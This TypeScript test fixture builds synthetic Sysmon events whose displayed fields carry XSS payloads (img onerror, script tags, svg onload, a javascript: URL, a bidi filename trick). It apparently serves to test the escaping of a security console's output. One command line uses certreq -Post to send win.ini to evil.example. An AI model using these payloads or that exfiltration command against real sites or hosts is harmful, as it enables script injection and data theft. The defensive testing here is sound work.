/** The XSS corpus the console and the HTML report are tested with: events whose every shown field is hostile. */
import { sysmonProcessCreate } from './events.js';

// The XSS corpus: each string goes through a field the console shows (command line, image, parent, user, host, URL).
export const XSS = {
  img: '<img src=x onerror="window.__pwned=1;alert(1)">',
  script: '"><script>window.__pwned=2;alert(2)</script>',
  js: 'javascript:alert(3)//',
  bidi: 'invoice\u202Etxt.exe',
  svg: '<svg onload=alert(4)>',
};

export function xssEvents(): Record<string, unknown>[] {
  const base = { time: '2024-05-02T08:00:00.000Z' };
  return [
    sysmonProcessCreate({
      ...base,
      recordId: 900001,
      host: `XSS01${XSS.img}`,
      user: `CORP\\${XSS.script}`,
      image: `C:\\Users\\Public\\${XSS.bidi}\\certreq.exe`,
      parentImage: `C:\\Windows\\${XSS.svg}\\cmd.exe`,
      commandLine: `certreq -Post -config ${XSS.js}https://x.example/${encodeURIComponent('"')} C:\\Users\\Public\\${XSS.bidi} "${XSS.img}" ${XSS.script}`,
    }),
    sysmonProcessCreate({
      ...base,
      recordId: 900002,
      host: 'XSS02.corp.example',
      commandLine: `certreq -Post -config https://evil.example/${XSS.script} C:\\Windows\\win.ini ${XSS.svg}`,
      user: `CORP\\${XSS.bidi}`,
    }),
  ];
}

